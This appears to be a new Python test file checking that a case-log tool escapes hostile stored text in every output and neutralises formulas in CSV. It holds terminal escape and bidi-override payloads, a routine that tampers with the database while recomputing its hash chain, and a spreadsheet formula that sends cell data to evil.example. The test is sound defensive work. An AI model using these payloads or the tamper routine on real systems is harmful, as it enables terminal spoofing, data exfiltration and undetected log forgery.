@@ -1,0 +1,184 @@
+#!/usr/bin/env python3
+"""Stored text cannot attack the reader of cycle's output (README, Reliability).
+
+  usage: hostile_text.py CYCLE ROOT
+
+On the shipped 2021 example (EXAMPLE DATA) the test plants, behind cycle's back but with the
+hash chain recomputed (so that `verify` passes, as it would for a database someone prepared),
+a case title and a reason full of what drives a terminal: ESC sequences (CSI colour, OSC window
+title), BEL, a lone CR, DEL, the C1 code CSI (U+009B) and bidirectional overrides, isolates and
+marks. It also opens a case with an actor that is a spreadsheet formula, which cycle accepts as
+it is (it is one line of text).
+
+Then:
+  - `log`, `case show`, `status`, `remind` and `remind --format mail` print not one raw control
+    character (but the line structure: LF, or CRLF in mail and CSV), DEL, C1 code or
+    bidirectional formatting character, and show the planted text in the escaped form
+    (`\\u001B`, `\\r`, `\\u202E`) exactly where the text belongs;
+  - `log --format json` gives back the planted title unchanged once parsed, with no raw C1 or
+    bidi character on the way;
+  - `log --format csv` and `case show --format csv` print the formula actor as the cell
+    `'=HYPERLINK(...)` (quoted per RFC 4180), the exact record asserted.
+"""
+import hashlib
+import json
+import os
+import re
+import sqlite3
+import subprocess
+import sys
+import tempfile
+
+GENESIS = "0" * 64
+COLUMNS = ["seq", "org", "recorded_at", "effective_date", "actor", "kind", "budget_year", "body",
+           "case_body", "case_year", "case_sequence", "details", "irregular", "reason",
+           "prev_hash", "hash"]
+
+TITLE = ("Sak \x1b[31mrød\x1b[0m \x9b2J \u202eevil\u202c \u2066iso\u2069 "
+         "bell\x07 cr\rX del\x7f æøå")
+TITLE_SHOWN = ("Sak \\u001B[31mrød\\u001B[0m \\u009B2J \\u202Eevil\\u202C \\u2066iso\\u2069 "
+               "bell\\u0007 cr\\rX del\\u007F æøå")
+REASON = "reorganisation \x1b]0;owned\x07 \u200e\u200f\u061c\u202e2.3"
+REASON_SHOWN = "reorganisation \\u001B]0;owned\\u0007 \\u200E\\u200F\\u061C\\u202E2.3"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klikk")'
+
+# What may not reach a reader raw: C0 (but LF), DEL, C1, and the bidirectional formatting and
+# line-separating characters.
+FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029"
+                       "\u202a-\u202e\u2066-\u2069]")
+FAILURES = []
+RECORDED_AT = "2021-10-01T12:00:00Z"
+
+
+def check(ok, message):
+    if not ok:
+        FAILURES.append(message)
+        print("FAIL: " + message)
+
+
+# ---------------------------------------------------------------- planting (as tamper.py does)
+
+def canonical(row):
+    """engine/hash_chain.cpp's canonical bytes of a stored row (tests/reliability/tamper.py)."""
+    case = None
+    if row["case_body"] is not None:
+        case = [row["case_body"], row["case_year"], row["case_sequence"]]
+
+    def enc(value):
+        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
+
+    parts = [enc(v) for v in ("cycle-event-v1", row["seq"], row["org"], row["recorded_at"],
+                              row["effective_date"], row["actor"], row["kind"],
+                              row["budget_year"], row["body"], case)]
+    parts += [row["details"], enc(bool(row["irregular"])), enc(row["reason"])]
+    return ("[" + ",".join(parts) + "]").encode("utf-8")
+
+
+def plant(db, changes):
+    """Applies `changes` ({seq: {column: value}}) with the triggers out of the way, rehashes
+    the chain from the first changed event on, and puts the triggers back."""
+    conn = sqlite3.connect(db)
+    conn.row_factory = sqlite3.Row
+    triggers = list(conn.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"))
+    for name, _ in triggers:
+        conn.execute(f"DROP TRIGGER {name}")
+    for seq, values in changes.items():
+        for column, value in values.items():
+            conn.execute(f"UPDATE case_log SET {column} = ? WHERE seq = ?", (value, seq))
+    prev = GENESIS
+    for row in [dict(r) for r in conn.execute(
+            "SELECT " + ", ".join(COLUMNS) + " FROM case_log ORDER BY seq")]:
+        digest = hashlib.sha256(prev.encode("ascii") + canonical(row)).hexdigest()
+        conn.execute("UPDATE case_log SET prev_hash = ?, hash = ? WHERE seq = ?",
+                     (prev, digest, row["seq"]))
+        prev = digest
+    for _, sql in triggers:
+        conn.execute(sql)
+    conn.commit()
+    conn.close()
+
+
+# ---------------------------------------------------------------- running cycle
+
+def run(cycle, db, *args, ok=True):
+    env = dict(os.environ, CYCLE_RECORDED_AT=RECORDED_AT)
+    done = subprocess.run([cycle, "--db", db, *args], capture_output=True, env=env)
+    if ok and done.returncode not in (0, 1):
+        check(False, f"{' '.join(args)}: exit {done.returncode}: {done.stderr!r}")
+    return done
+
+
+def shown(what, done, crlf=False):
+    """The output as text, after checking it holds nothing raw that could drive a terminal."""
+    for stream, data in (("stdout", done.stdout), ("stderr", done.stderr)):
+        try:
+            text = data.decode("utf-8")
+        except UnicodeDecodeError as error:
+            check(False, f"{what}: {stream} is not valid UTF-8: {error}")
+            continue
+        if crlf:
+            text = text.replace("\r\n", "\n")
+        raw = sorted(set(FORBIDDEN.findall(text)))
+        check(not raw, f"{what}: {stream} holds raw {[hex(ord(c)) for c in raw]}")
+    return done.stdout.decode("utf-8", errors="replace")
+
+
+def main():
+    cycle, root = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
+    with tempfile.TemporaryDirectory() as work:
+        db = os.path.join(work, "cycle.db")
+        subprocess.run(["bash", os.path.join(root, "examples", "osloregionen-2021.sh"), cycle, db],
+                       check=True, capture_output=True)
+        opened = run(cycle, db, "--today", "2021-09-01", "case", "open", "--body", "board",
+                     "--title", "PLANTED LATER", "--date", "2021-09-01")
+        number = opened.stdout.decode().strip()
+        formula = run(cycle, db, "--today", "2021-09-02", "--actor", FORMULA, "case", "open",
+                      "--body", "board", "--title", "Budsjett, 2022", "--date", "2021-09-02")
+        formula_number = formula.stdout.decode().strip()
+        conn = sqlite3.connect(db)
+        title_seq = conn.execute("SELECT seq FROM case_log WHERE details LIKE ?",
+                                 ('%PLANTED LATER%',)).fetchone()[0]
+        formula_seq = title_seq + 1
+        reason_seq = conn.execute("SELECT min(seq) FROM case_log WHERE kind = 'contingent-set' "
+                                  "AND irregular = 1").fetchone()[0]
+        conn.close()
+        details = json.dumps({"title": TITLE}, ensure_ascii=False, separators=(",", ":"),
+                             sort_keys=True)
+        plant(db, {title_seq: {"details": details}, reason_seq: {"reason": REASON}})
+        verified = run(cycle, db, "--today", "2021-10-01", "verify")
+        check(verified.returncode == 0, f"verify after planting: {verified.stderr!r}")
+
+        today = ["--today", "2021-10-01"]
+        log = shown("log", run(cycle, db, *today, "log"))
+        check(f"title={TITLE_SHOWN}" in log, "log: the planted title is not shown escaped")
+        check(REASON_SHOWN in log, "log: the planted reason is not shown escaped")
+        case = shown("case show", run(cycle, db, *today, "case", "show", number))
+        check(f"title={TITLE_SHOWN}" in case, "case show: the planted title is not shown escaped")
+        status = shown("status", run(cycle, db, *today, "status", "--lang", "en"))
+        check(f"contingent-set" in status and f": {REASON_SHOWN}\n" in status,
+              "status: the planted reason is not shown escaped")
+        shown("remind", run(cycle, db, *today, "remind", "--lang", "en"))
+        shown("remind mail", run(cycle, db, *today, "remind", "--format", "mail", "--from",
+                                 "post@example.org", "--to", "board@example.org"), crlf=True)
+
+        lines = shown("log json", run(cycle, db, *today, "log", "--format", "json")).splitlines()
+        titles = [json.loads(line)["details"].get("title") for line in lines]
+        check(TITLE in titles, "log --format json: the planted title does not read back unchanged")
+
+        record = (f'{formula_seq},{RECORDED_AT},2021-09-02,"\'{FORMULA.replace(chr(34), 2 * chr(34))}",'
+                  f'board,{formula_number},case-opened,,"{{""title"":""Budsjett, 2022""}}",no,\r\n')
+        csv = shown("log csv", run(cycle, db, *today, "log", "--format", "csv"), crlf=True)
+        check(record in csv.splitlines(keepends=True) or ("\n" + record) in csv,
+              f"log --format csv: no record {record!r}")
+        csv = shown("case show csv", run(cycle, db, *today, "case", "show", formula_number,
+                                         "--format", "csv"), crlf=True)
+        check(csv.endswith("\r\n" + record), f"case show --format csv: {csv!r}, expected {record!r}")
+    if FAILURES:
+        print(f"{len(FAILURES)} failures")
+        return 1
+    print("stored text: escaped in every text output, formulas neutralised in CSV")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
